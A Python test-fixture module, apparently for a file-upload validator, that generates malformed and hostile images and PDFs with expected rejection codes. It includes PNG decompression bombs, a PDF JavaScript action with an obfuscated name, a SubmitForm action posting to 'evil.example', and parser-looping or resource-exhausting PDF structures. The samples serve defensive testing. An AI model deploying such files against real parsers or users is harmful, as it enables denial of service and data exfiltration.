"""Pictures and PDFs as cameras, scanners and other programs leave them, and broken ones.

Sources: ISO 32000-1; ISO/IEC 10918-1; PNG (W3C, third edition).
"""

# ruff: noqa: E501 - the lines are data

import io
import re
import zlib
from collections.abc import Callable, Iterator

from hostile import Book
from hostile_pdf import Pdf, packed, png, stream
from PIL import Image

Group = Iterator[tuple[str, str, Callable[[], bytes]]]


def _picture(kind: str, mode: str = "L", size: tuple[int, int] = (64, 64), **how: object) -> bytes:
    out = io.BytesIO()
    image = Image.effect_noise(size, 60).convert(mode)
    image.save(out, kind, **how)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def _png_with(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before its data."""
    content = png()
    at = content.index(b"IDAT") - 4
    return content[:at] + _chunk(kind, data) + content[at:]


def _png_head(head: bytes, data: bytes = b"") -> bytes:
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _frame(height: int) -> bytes:
    """A JPEG whose frame says another height than it has."""
    content = bytearray(_picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 2] = height.to_bytes(2, "big")
    return bytes(content)


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    return _picture("JPEG", exif=exif)


def _frames(kind: str) -> bytes:
    out = io.BytesIO()
    first, second = (Image.effect_noise((40, 40), 60).convert("RGB") for _ in range(2))
    first.save(out, kind, save_all=True, append_images=[second])
    return out.getvalue()


def pictures() -> Group:
    """Pictures as materials."""
    wrong, broken = "file.wrong-type", "file.broken"
    for kind, suffix in {"GIF": "gif", "BMP": "bmp", "TIFF": "tif", "WEBP": "webp"}.items():
        yield f"scan.{suffix}", wrong, lambda kind=kind: _picture(kind)
        yield f"{suffix}-named.jpg", wrong, lambda kind=kind: _picture(kind, "RGB")
    yield "scan.heic", wrong, lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400)
    yield "burst.heic", wrong, lambda: b"\0\0\0\x18ftyphevc\0\0\0\0msf1hevc" + bytes(400)
    yield "scan.avif", wrong, lambda: b"\0\0\0\x18ftypavif\0\0\0\0avifmif1" + bytes(400)
    yield "film.jpg", wrong, lambda: b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + bytes(400)
    yield "jpeg-2000.jpg", wrong, lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(400)
    yield "vector.png", wrong, lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    yield "workbook.jpg", wrong, lambda: Book().build()
    yield "four-inks.jpg", "", lambda: _picture("JPEG", "CMYK")
    yield "progressive.jpg", "", lambda: _picture("JPEG", "RGB", progressive=True)
    yield "turned.jpg", "", _exif
    yield "two-in-one.jpg", "", lambda: _frames("MPO")
    yield "bytes-behind.jpg", "", lambda: _picture("JPEG") + bytes(2_000)
    yield "archive-behind.jpg", "", lambda: _picture("JPEG") + Book().build()
    yield "without-its-end.jpg", broken, lambda: _picture("JPEG")[:-2]
    yield "half.jpg", broken, lambda: _picture("JPEG", size=(200, 200))[:-4_000]
    yield "of-no-height.jpg", broken, lambda: _frame(0)
    yield "head-alone.jpg", broken, lambda: _picture("JPEG")[:20]
    yield "head-alone.png", broken, lambda: png()[:8]
    yield "sixteen-bits.png", "", lambda: _picture("PNG", "I;16")
    yield "palette.png", "", lambda: _picture("PNG", "P")
    yield "transparent.png", "", lambda: _picture("PNG", "LA")
    yield (
        "palette-missing.png",
        "",
        lambda: _png_head(b"\0\0\0\1\0\0\0\1\x08\3\0\0\0", zlib.compress(b"\0\0")),
    )
    yield "of-no-width.png", broken, lambda: _png_head(b"\0\0\0\0\0\0\0\1\x08\0\0\0\0", zlib.compress(b"\0"))
    yield "of-no-data.png", broken, lambda: _png_head(b"\0\0\0\1\0\0\0\1\x08\0\0\0\0")
    yield "huge.png", "file.too-many-pixels", lambda: _png_head(b"\0\1\0\0\0\1\0\0\x08\0\0\0\0", b"x")
    yield (
        "unknown-bits.png",
        broken,
        lambda: _png_head(b"\0\0\0\1\0\0\0\1\x07\0\0\0\0", zlib.compress(b"\0\0")),
    )
    yield "moving.png", "file.animated", lambda: _frames("PNG")
    yield (
        "text-bomb.png",
        "file.broken",
        lambda: _png_with(b"zTXt", b"x\0\0" + zlib.compress(bytes(60 << 20))),
    )
    yield (
        "profile-bomb.png",
        "file.broken",
        lambda: _png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(60 << 20))),
    )
    yield "data-of-no-bytes.png", "", lambda: _png_with(b"IDAT", b"")
    yield "bytes-behind.png", "", lambda: png() + bytes(2_000)


def cut_pictures() -> Group:
    """Pictures that end behind one of their markers, and whose heads are endless."""
    whole, in_scans = _picture("JPEG", "RGB"), _picture("JPEG", "RGB", progressive=True)
    ends = [marker.end() for marker in re.finditer(rb"\xff[\xc0-\xfe]", whole)]
    for at, end in enumerate(ends[1:-1]):
        yield f"cut-at-marker-{at}.jpg", "file.broken", lambda end=end: whole[:end]
    ends = [marker.end() for marker in re.finditer(rb"\xff[\xc2\xc4\xda\xdb]", in_scans)]
    for at, end in enumerate(ends):
        yield f"ends-at-marker-{at}.jpg", "file.broken", lambda end=end: in_scans[:end] + b"\xff\xd9"
    yield "cut-in-its-last-scan.jpg", "file.broken", lambda: in_scans[:-9].rstrip(b"\xff") + b"\xff\xd9"
    yield "many-segments.jpg", "file.broken", lambda: whole[:2] + b"\xff\xe3\0\2" * 300_000 + whole[2:]
    yield "fill-bytes.jpg", "file.broken", lambda: whole[:2] + b"\xff" * 2_000_000 + whole[2:]
    yield "fill-bytes-before-the-end.jpg", "", lambda: whole[:-2] + b"\xff" * 20 + whole[-2:]
    yield "restarts.jpg", "", lambda: _picture("JPEG", "RGB", restart_marker_blocks=1)
    yield "looping-exif.jpg", "", lambda: (
        whole[:2] + b"\xff\xe1\0\x28Exif\0\0II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\x08\0\0\0" + whole[2:]
    )  # fmt: skip
    picture = png()
    data = picture.index(b"IDAT")
    end = data + 4 + int.from_bytes(picture[data - 4 : data], "big")
    for name, place in {"head": picture.index(b"IHDR") + 17, "data": end, "end": len(picture) - 1}.items():
        changed = picture[:place] + bytes([picture[place] ^ 1]) + picture[place + 1 :]
        yield (
            f"checksum-of-{name}.png",
            "file.broken" if name != "end" else "",
            lambda changed=changed: changed,
        )
    yield "interlaced.png", "", lambda: _png_head(b"\0\0\0\1\0\0\0\1\x08\0\0\0\1", zlib.compress(b"\0\0"))


def _pages(count: int) -> bytes:
    """A PDF of so many alike pages."""
    pages = dict.fromkeys(
        range(5, 5 + count), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    )
    kids = b" ".join(b"%d 0 R" % number for number in pages)
    return Pdf({2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), **pages}).build()


def _object_stream(objects: bytes, extra: bytes = b"") -> bytes:
    return Pdf({5: packed(objects, b"/Type/ObjStm/N 1/First 4" + extra)}).build()


def _start(place: bytes) -> bytes:
    content = Pdf().build()
    at = content.rindex(b"startxref\n") + 10
    return content[:at] + place + b"\n%%EOF\n"


def documents() -> Group:
    """PDFs as materials."""
    broken, active = "file.broken", "file.active-content"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s>>"
    yield "version-2.pdf", "", lambda: Pdf().build().replace(b"%PDF-1.5", b"%PDF-2.0")
    yield "mark-before.pdf", "file.broken", lambda: b"\xef\xbb\xbf" + Pdf().build()
    yield "lines-before.pdf", "file.broken", lambda: b"\r\n\r\n" + Pdf().build()
    yield (
        "mail-before.pdf",
        "file.wrong-type",
        lambda: b"Content-Type: application/pdf\r\n\r\n" + Pdf().build(),
    )
    yield "bytes-behind.pdf", "", lambda: Pdf().build() + bytes(900)
    yield "archive-behind.pdf", "", lambda: Pdf().build() + Book().build()
    yield "head-alone.pdf", broken, lambda: b"%PDF-1.7\n"
    yield "no-end-mark.pdf", "file.broken", lambda: Pdf().build().replace(b"%%EOF\n", b"")
    yield "table-beyond.pdf", broken, lambda: _start(b"99999999")
    yield "table-negative.pdf", broken, lambda: _start(b"-1")
    yield "table-of-no-number.pdf", broken, lambda: _start(b"x")
    yield "table-long-number.pdf", broken, lambda: _start(b"9" * 5_000)
    yield "table-before-itself.pdf", broken, lambda: Pdf(trailer=b"/Prev 9").build()
    yield "tree-loops.pdf", broken, lambda: Pdf({2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}).build()
    yield (
        "parent-loops.pdf",
        "",
        lambda: Pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>"}).build(),
    )
    yield "count-lies.pdf", "", lambda: Pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count 99999999>>"}).build()
    yield "count-of-text.pdf", "", lambda: Pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count(x)>>"}).build()
    yield "page-is-a-number.pdf", broken, lambda: Pdf({3: b"7"}).build()
    yield "page-missing.pdf", broken, lambda: Pdf({2: b"<</Type/Pages/Kids[99 0 R]/Count 1>>"}).build()
    yield "root-missing.pdf", broken, lambda: Pdf().build().replace(b"/Root 1 0 R", b"/Rood 1 0 R")
    yield "root-is-a-page.pdf", broken, lambda: Pdf().build().replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield "content-loops.pdf", broken, lambda: Pdf({4: b"4 0 R"}).build()
    yield (
        "length-elsewhere.pdf",
        "",
        lambda: Pdf({4: b"<</Length 5 0 R>>stream\n0 0 m 9 9 l S\nendstream", 5: b"13"}).build(),
    )
    yield (
        "length-loops.pdf",
        "file.broken",
        lambda: Pdf({4: b"<</Length 4 0 R>>stream\n0 0 m 9 9 l S\nendstream"}).build(),
    )
    yield (
        "length-negative.pdf",
        "",
        lambda: Pdf({4: b"<</Length -5>>stream\n0 0 m 9 9 l S\nendstream"}).build(),
    )
    yield "objects-in-itself.pdf", "", lambda: _object_stream(b"5 0 <<>>", b"/Extends 5 0 R")
    yield (
        "filters-many.pdf",
        "",
        lambda: Pdf({4: stream(b"x", b"/Filter[" + b"/FlateDecode" * 3_000 + b"]")}).build(),
    )
    yield "spaces-of-names.pdf", active, lambda: Pdf({5: b"<</S/J#61vaScript/JS(x)>>"}).build()
    yield (
        "opens-a-page.pdf",
        "",
        lambda: Pdf({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>"}).build(),
    )
    yield (
        "film-inside.pdf",
        active,
        lambda: Pdf(
            {
                3: page % b"/Annots[5 0 R]",
                5: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>",
            }
        ).build(),
    )
    yield "sends-a-form.pdf", active, lambda: Pdf({5: b"<</S/SubmitForm/F(http://evil.example)>>"}).build()
    yield (
        "link.pdf",
        "",
        lambda: Pdf(
            {
                3: page % b"/Annots[5 0 R]",
                5: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://x.example)>>>>",
            }
        ).build(),
    )
    yield "turned.pdf", "", lambda: Pdf({3: page % b"/Rotate 90"}).build()
    yield "turned-oddly.pdf", "", lambda: Pdf({3: page % b"/Rotate 45"}).build()
    yield (
        "page-of-kilometres.pdf",
        "file.broken",
        lambda: Pdf({3: (page % b"").replace(b"595 842", b"1e9 1e9")}).build(),
    )
    yield (
        "page-of-text-size.pdf",
        broken,
        lambda: Pdf({3: (page % b"").replace(b"595 842", b"(x) null")}).build(),
    )
    yield "pages-300.pdf", "file.too-many-pages", lambda: _pages(300)
    yield "pages-200.pdf", "", lambda: _pages(200)
    yield (
        "key-of-a-company.pdf",
        "file.encrypted",
        lambda: Pdf({5: b"<</Filter/Adobe.PubSec/V 4>>"}, b"/Encrypt 5 0 R").build(),
    )
    yield (
        "key-is-broken.pdf",
        "file.encrypted",
        lambda: Pdf({5: b"<</Filter/Standard/V 9/R 9/O(x)/U(x)/P 0>>"}, b"/Encrypt 5 0 R").build(),
    )
    yield "key-missing.pdf", "file.encrypted", lambda: Pdf(trailer=b"/Encrypt 77 0 R").build()


def odd_documents() -> Group:
    """PDFs whose parts lead in circles, or are endless."""
    broken, active, many = "file.broken", "file.active-content", "file.too-many-parts"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</I %d 0 R>>>>"
    for name, code, objects in (
        ("box-of-nothing", broken, {3: (page % b"").replace(b"595 842", b"0 0")}),
        ("box-of-no-numbers", broken, {3: (page % b"").replace(b"595 842", b"nan inf")}),
        ("box-loops", broken, {3: (page % b"").replace(b"[0 0 595 842]", b"5 0 R"), 5: b"5 0 R"}),
        ("only-stamps", "", {
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[5 0 R]>>",
            5: b"<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AP<</N 6 0 R>>>>",
            6: stream(b"0 0 m 9 9 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
        }),
        ("form-of-xfa", active, {1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R/Fields[]>>>>", 5: stream(b"<xdp/>")}),
        ("predictor", "", {4: packed(b"0 0 m", b"/DecodeParms<</Predictor 15/Columns 2000000000/Colors 99>>")}),
        ("kids-of-kids", broken, {
            2: b"<</Type/Pages/Kids[10 0 R 10 0 R]/Count 2>>",
            **{at: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (at + 1, at + 1) for at in range(10, 34)},
            34: page % b"",
        }),
        ("contents-in-itself", broken, {3: (page % b"").replace(b"4 0 R", b"[4 0 R 5 0 R]"), 5: b"[5 0 R]"}),
        ("contents-200000", broken, {3: (page % b"").replace(b"4 0 R", b"[" + b"4 0 R " * 200_000 + b"]")}),
        ("form-draws-itself", "", {
            3: page % b"/Resources<</XObject<</I 5 0 R>>>>",
            4: stream(b"/I Do"),
            5: stream(b"/I Do", form % 5),
        }),
        ("forms-draw-forms", "", {
            3: page % b"/Resources<</XObject<</I 10 0 R>>>>",
            4: stream(b"/I Do"),
            **{at: stream(b"/I Do " * 9, form % (at + 1)) for at in range(10, 30)},
            30: stream(b"0 0 m 9 9 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
        }),
        ("names-loop", active, {1: b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 5 0 R>>>>", 5: b"<</Kids[5 0 R]>>"}),
        ("outline-loops", "", {
            1: b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>",
            5: b"<</First 6 0 R/Last 6 0 R>>",
            6: b"<</Title(x)/Next 6 0 R/Parent 5 0 R>>",
        }),
        ("string-unclosed", broken, {5: b"((" * 50_000}),
        ("dictionary-unclosed", broken, {5: b"<<" * 50_000}),
        ("long-hexadecimal", many, {5: b"<" + b"4" * 3_000_000 + b">"}),
        ("long-name", broken, {5: b"/" + b"#41" * 1_000_000}),
        ("long-number", broken, {5: b"9" * 2_000_000}),
        ("many-operands", "", {4: stream(b"1 " * 3_000_000 + b"S")}),
        ("many-states", "", {4: stream(b"q " * 1_000_000)}),
    ):  # fmt: skip
        yield f"{name}.pdf", code, lambda objects=objects: Pdf(objects).build()
    for name in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "LZWDecode"):
        picture = (
            b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/"
        )
        objects = {
            3: page % b"/Resources<</XObject<</I 5 0 R>>>>",
            4: stream(b"q 500 0 0 500 0 0 cm /I Do Q"),
            5: stream(b"\0" * 50, picture + name.encode()),
        }
        yield f"picture-of-{name}.pdf", "", lambda objects=objects: Pdf(objects).build()
    yield "start-is-itself.pdf", broken, lambda: _start(b"%d" % (Pdf().build().rindex(b"startxref")))
    yield "two-in-one.pdf", "", lambda: Pdf().build() * 2
    yield "pages-10000.pdf", "file.too-many-pages", lambda: _pages(10_000)


GROUPS = (pictures, cut_pictures, documents, odd_documents)
